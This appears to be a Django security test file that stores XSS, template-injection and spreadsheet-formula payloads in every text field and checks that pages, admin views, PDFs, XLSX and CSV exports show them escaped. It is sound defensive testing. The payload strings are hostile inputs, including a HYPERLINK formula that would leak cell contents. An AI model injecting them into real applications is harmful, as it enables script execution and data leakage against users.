"""Stored XSS: a payload in every text field of every district-owned object is shown escaped everywhere.

The payloads are written straight into the database (as a hostile import or a compromised account
would), then every page outside the admin and every admin URL of every model is fetched as a user of
that district. No response may let a payload take effect: pages show it escaped, PDFs show markup as
text, spreadsheets (XLSX, CSV) hold no formula. Downloads that need a POST (the admin's export form)
are not reached here; their own tests post them.
"""

import csv
import io
import re
import shutil
import subprocess

import pytest
from django.http import HttpResponse
from django.urls import reverse
from django.utils.html import escape
from openpyxl import Workbook, load_workbook

from integration_portal.spreadsheets import XLSX_TYPE, xlsx_response

from .conftest import district_owned_models
from .surface import admin_urls, browser_urls, district_admin_models, store_in_text_fields, text_fields

# Short enough for the narrowest text fields; each is unique per field so a hit names its source.
PAYLOADS = [
    '"><svg onload=alert({n})>',
    "<script>alert({n})</script>",
    "{{{{ 7|add:{n} }}}}{{% debug %}}",
    "<b>FETT{n}</b>",
    '=HYPERLINK("http://x/?"&A{n})',
]
UNESCAPED = ("<svg onload=alert(", "<script>alert(", "<b>FETT")
FORMULA_STARTS = ("=", "+", "-", "@")


@pytest.fixture(params=range(len(PAYLOADS)), ids=["attribute", "script", "template", "markup", "formula"])
def payload(request):
    return PAYLOADS[request.param]


@pytest.fixture
def poisoned(district, own, payload):
    """The district and its objects with a payload in every text field: {(model, field name): payload}."""
    counter = iter(range(1000, 9999))
    stored = {}
    for model, obj in [(type(district), district), *own.items()]:
        values = store_in_text_fields(obj, lambda field: payload.format(n=next(counter)))
        stored.update({(model.__name__, name): value for name, value in values.items()})
    return stored


def body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_escaped(response, url):
    """No payload took effect, whatever the response is: page, PDF or spreadsheet."""
    content_type = response.get("Content-Type", "")
    if "html" in content_type:
        content = body(response).decode(errors="replace")
        for marker in UNESCAPED:
            assert marker not in content, f"{url} shows a stored payload unescaped"
        # {% debug %} evaluated would print the template context.
        assert "sql_queries" not in content, f"{url} evaluated user text as a template"
    elif content_type.startswith("application/pdf"):
        pdftotext = shutil.which("pdftotext") or pytest.fail("pdftotext is missing: apt-get install poppler-utils")
        text = subprocess.run([pdftotext, "-", "-"], input=body(response), capture_output=True, check=False)
        assert text.returncode == 0, f"{url}: {text.stderr.decode()} {body(response)[:200]!r}"
        text = text.stdout.decode()
        # Markup shown as text keeps its tags; markup rendered by the PDF engine loses them.
        for match in re.finditer(r"FETT\d+", text):
            assert text[max(0, match.start() - 3) : match.start()] == "<b>", f"{url}: PDF renders user markup"
        assert "sql_queries" not in text, f"{url}: PDF evaluated user text as a template"
    elif content_type.startswith(XLSX_TYPE):
        workbook = load_workbook(io.BytesIO(body(response)))
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{url}: {sheet.title}!{cell.coordinate} is a formula"
    elif content_type.startswith("text/csv"):
        for row in csv.reader(io.StringIO(body(response).decode("utf-8-sig"))):
            for value in row:
                assert not value.startswith(FORMULA_STARTS), f"{url}: CSV cell {value!r} is a formula"


def test_the_attack_covers_the_text_fields_of_the_plan():
    attacked = {model.__name__ for model in district_owned_models() if text_fields(model)}
    assert {"Measure", "ActionPlan", "Actor", "Indicator", "ProgressReport"} <= attacked


@pytest.mark.django_db
@pytest.mark.parametrize("user", ["kit_user", "steering_user", None], ids=["kit", "steering", "anonymous"])
def test_pages_show_stored_payloads_escaped(client, request, user, district, own, payload, poisoned):
    if user:
        client.force_login(request.getfixturevalue(user))
    for label, url in browser_urls(district, own.values()):
        if label != "logout":
            assert_escaped(client.get(url), url)
    # The payloads did reach a page: the plan page shows the measures' texts, as text.
    plan = next(obj for obj in own.values() if type(obj).__name__ == "ActionPlan")
    content = client.get(plan.get_absolute_url()).content.decode()
    measure_text = poisoned[("Measure", "text")]
    assert escape(measure_text) in content or measure_text in content


@pytest.mark.django_db
@pytest.mark.parametrize("model", district_admin_models(), ids=lambda model: model.__name__)
def test_admin_shows_stored_payloads_escaped(client, superuser, own, poisoned, model):
    client.force_login(superuser)
    meta = model._meta
    changelist = client.get(reverse(f"admin:{meta.app_label}_{meta.model_name}_changelist"))
    assert changelist.status_code == 200
    assert_escaped(changelist, meta.model_name)
    for _name, url in admin_urls(model, own[model].pk):
        assert_escaped(client.get(url), url)


class TestTheCheckerCatchesEffectivePayloads:
    """The checks above would notice a payload that took effect in a PDF or a spreadsheet."""

    def pdf_response(self, html):
        from weasyprint import HTML

        return HttpResponse(HTML(string=html).write_pdf(), content_type="application/pdf")

    def test_pdf_with_rendered_markup(self):
        with pytest.raises(AssertionError, match="PDF renders user markup"):
            assert_escaped(self.pdf_response("<p><b>FETT1001</b></p>"), "pdf")
        assert_escaped(self.pdf_response(f"<p>{escape('<b>FETT1001</b>')}</p>"), "pdf")

    def test_spreadsheet_with_a_formula(self):
        workbook = Workbook()
        workbook.active.append(['=HYPERLINK("http://x/")'])
        buffer = io.BytesIO()
        workbook.save(buffer)
        with pytest.raises(AssertionError, match="is a formula"):
            assert_escaped(HttpResponse(buffer.getvalue(), content_type=XLSX_TYPE), "xlsx")
        assert_escaped(xlsx_response("m.xlsx", ["Maßnahme"], [['=HYPERLINK("http://x/")']]), "xlsx")
        with pytest.raises(AssertionError, match="is a formula"):
            assert_escaped(HttpResponse('"=1+1"\r\n', content_type="text/csv"), "csv")
